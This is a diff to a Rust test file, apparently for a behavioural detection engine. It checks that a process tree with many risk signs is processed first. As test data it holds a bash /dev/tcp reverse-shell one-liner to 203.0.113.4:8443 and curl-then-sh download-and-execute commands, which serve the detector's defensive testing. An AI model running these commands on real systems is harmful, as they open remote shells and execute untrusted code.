@@ -74,7 +74,7 @@ fn runs(pid: u32, text: &str) -> Event {
 }
 
 #[test]
-fn without_time_the_risky_comes_first_and_the_rest_is_caught_up_with() {
+fn without_time_a_tree_with_signs_comes_first_and_the_rest_is_caught_up_with() {
     let model = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("model/artifact");
     let model = Arc::new(Model::load(&model).unwrap());
     let (out, mut findings) = channel();
@@ -90,8 +90,16 @@ fn without_time_the_risky_comes_first_and_the_rest_is_caught_up_with() {
             format!("curl -s http://10.0.0.{pid}/h{pid} -o /tmp/h{pid} && sh /tmp/h{pid} --check");
         assert!(bench.apply(&runs(pid, &text), Hurry::None).is_ok());
     }
-    let attack = "exec 9<>/dev/tcp/203.0.113.4/8443; sh <&9 >&9 2>&9";
-    assert!(bench.apply(&runs(99, attack), Hurry::None).is_ok());
+    let attack = runs(99, "exec 9<>/dev/tcp/203.0.113.4/8443; sh <&9 >&9 2>&9");
+    let thresholds = bench.judge.as_ref().unwrap().thresholds(None);
+    // More signs than any gate's log-odds.
+    for sign in 0..40 {
+        let tree = attack.process;
+        bench
+            .risks
+            .add(tree, sign, thresholds.suspicious, thresholds, 1);
+    }
+    assert!(bench.apply(&attack, Hurry::None).is_ok());
     let again = bench.work().ok().flatten();
     assert!(again > Some(Duration::ZERO), "{again:?}");
     let waiting = bench.counts.queue().waiting;
